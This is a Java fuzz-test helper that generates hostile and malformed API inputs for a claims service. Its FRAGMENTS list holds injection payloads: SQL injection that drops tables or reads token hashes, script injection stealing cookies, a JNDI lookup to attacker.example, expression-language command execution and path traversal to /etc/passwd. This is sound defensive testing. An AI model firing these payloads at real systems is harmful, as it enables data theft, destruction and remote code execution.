package org.claimledger.trust;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.MissingNode;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import org.claimledger.common.Slugs;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.util.List;
import java.util.regex.Pattern;

/**
 * Values a careless or hostile client sends: SQL and script fragments, odd unicode, numbers beyond any
 * range, and JSON of the wrong shape. Each generator states what its values are guaranteed not to be,
 * because a fuzz test that sends a value the service may rightly accept would prove nothing.
 */
final class HostileValues {
    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    /** Stands for "leave the field out" in a mutation. */
    static final JsonNode ABSENT = MissingNode.getInstance();
    private static final Pattern SLUG = Pattern.compile(Slugs.PATTERN);

    private static final List<String> FRAGMENTS = List.of(
            "'; DROP TABLE claim; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)--",
            "' UNION SELECT token_hash FROM api_token --", "$$; DELETE FROM revision; $$", "\\'; COPY claim TO '/tmp/x'",
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
            "{{7*7}}", "${jndi:ldap://attacker.example/a}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "../../../../etc/passwd", "%2e%2e%2f%2e%2e%2f", "%00", "\u0000", "nul\u0000inside", "\r\nX-Injected: 1",
            "\u202Egnp.exe", "\uFEFFbom", "Z\u0351\u0363\u0364a\u0310\u0302l\u0300go", "ք Армения Azərbaycan",
            "😀💥🇦🇲", "\uD83D", "NaN", "Infinity", "-0", "1e309", "0x1F", "99999999999999999999999999999",
            "null", "undefined", "true", "[]", "{}", "\t", " ", "", "Robert'); --");

    private HostileValues() {
    }

    /** Any text: a fragment, random unicode, or both. */
    static Arbitrary<String> text() {
        Arbitrary<String> fragment = Arbitraries.of(FRAGMENTS);
        Arbitrary<String> unicode = Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40);
        Arbitrary<String> mixed = fragment.flatMap(f -> Arbitraries.strings().ofMaxLength(12).map(s -> f + s));
        return Arbitraries.oneOf(fragment, unicode, mixed);
    }

    /** Text that is not a slug, so it cannot name any source or party (their slugs are checked on write). */
    static Arbitrary<String> notASlug() {
        return text().filter(s -> !SLUG.matcher(s).matches());
    }

    /** Text no enumeration of the API has as a word (those are lower-case, hyphenated words). */
    static Arbitrary<String> notAWord() {
        // blank text is left out: Jackson reads it as null, which optional enumerations accept
        return Arbitraries.oneOf(notASlug().filter(s -> !s.isBlank()), Arbitraries.of("KILLED", "Killed", "killed ", " casualty", "at_least",
                "equipment_loss", "ASSERTS", "Retracted"));
    }

    /**
     * Text that is not an ISO date, nor anything Jackson would read as one (it trims dates, and reads
     * text that trims to nothing, such as "\u0000", as no date at all).
     */
    static Arbitrary<String> notADate() {
        return Arbitraries.oneOf(text().filter(s -> !s.trim().isEmpty() && !looksLikeDate(s)),
                Arbitraries.of("2020-13-01", "2020-02-30", "2020-00-10", "20-10-28", "2020/10/28", "28.10.2020",
                        "2020-10-28T25:00:00", "2020-10-28Z", "Oct 28, 2020", "2020-1-1", "yesterday"));
    }

    private static boolean looksLikeDate(String s) {
        try {
            java.time.LocalDate.parse(s.trim());
            return true;
        } catch (RuntimeException e) {
            return false;
        }
    }

    /** A date after today: a source cannot have said something tomorrow. */
    static Arbitrary<String> futureDate() {
        return Arbitraries.integers().between(1, 3_000_000)
                .map(days -> java.time.LocalDate.now().plusDays(days + 1).toString());
    }

    /** Text of exactly {@code length} letters, past a field's limit. */
    static Arbitrary<String> tooLong(int length) {
        return Arbitraries.integers().between(length, length + 50).map("x"::repeat);
    }

    /** Text with a NUL character, which no text column of PostgreSQL can hold. */
    static Arbitrary<String> withNul() {
        return Arbitraries.strings().alpha().ofMaxLength(20).map(s -> s + "\u0000" + s);
    }

    /** Text with visible content that is still blank to a validator. */
    static Arbitrary<String> blank() {
        return Arbitraries.of("", " ", "   ", "\t", "\n", " \t\n ");
    }

    /** JSON where a string belongs (numbers and booleans are left out: Jackson reads them as text). */
    static Arbitrary<JsonNode> notAString() {
        return Arbitraries.oneOf(Arbitraries.just(NODES.objectNode()),
                text().map(s -> (JsonNode) NODES.objectNode().put("value", s)),
                Arbitraries.just(NODES.arrayNode()), text().map(s -> (JsonNode) NODES.arrayNode().add(s)));
    }

    /** JSON where a whole number belongs: fractions, out of range, text, other shapes. */
    static Arbitrary<JsonNode> notACount() {
        return Arbitraries.oneOf(
                Arbitraries.longs().lessOrEqual(-1).map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.bigIntegers().between(BigInteger.valueOf(Long.MAX_VALUE).add(BigInteger.ONE),
                        BigInteger.TEN.pow(40)).map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of("1e400", "-1e400", "1.5", "0.0001", "3360.7", "1E19").map(n -> (JsonNode) NODES
                        .numberNode(new BigDecimal(n))),
                text().filter(s -> !isNumber(s)).map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.of(NODES.booleanNode(true), NODES.booleanNode(false)),
                notAString());
    }

    /** JSON where an enumeration word belongs: unknown words, ordinals, other shapes. */
    static Arbitrary<JsonNode> notAnEnum() {
        return Arbitraries.oneOf(notAWord().map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.integers().between(-1, 40).map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of(NODES.booleanNode(true)), notAString());
    }

    /** JSON where a date belongs (numbers and [y, m, d] arrays are left out: Jackson reads them as dates). */
    static Arbitrary<JsonNode> notADateValue() {
        return Arbitraries.oneOf(notADate().map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.just(NODES.objectNode()), Arbitraries.of(NODES.booleanNode(true)),
                Arbitraries.just(NODES.arrayNode().add("2020").add("October")));
    }

    /** JSON where a list belongs. */
    static Arbitrary<JsonNode> notAList() {
        return Arbitraries.oneOf(text().filter(s -> !s.isEmpty()).map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.integers().map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.just(NODES.objectNode().put("title", "a report")), Arbitraries.of(NODES.booleanNode(true)));
    }

    /** JSON where an object belongs. */
    static Arbitrary<JsonNode> notAnObject() {
        return Arbitraries.oneOf(text().filter(s -> !s.isEmpty()).map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.integers().map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.just(NODES.arrayNode()), Arbitraries.of(NODES.booleanNode(false)));
    }

    /** Any JSON value at all: for fields that must not be sent. */
    static Arbitrary<JsonNode> anything() {
        return Arbitraries.oneOf(text().map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.longs().map(n -> (JsonNode) NODES.numberNode(n)), Arbitraries.just(NODES.nullNode()),
                Arbitraries.of(NODES.booleanNode(true)), notAString());
    }

    static Arbitrary<JsonNode> textNode(Arbitrary<String> values) {
        return values.map(s -> (JsonNode) NODES.textNode(s));
    }

    private static boolean isNumber(String s) {
        try {
            new BigDecimal(s.trim());
            return true;
        } catch (NumberFormatException e) {
            return false;
        }
    }
}
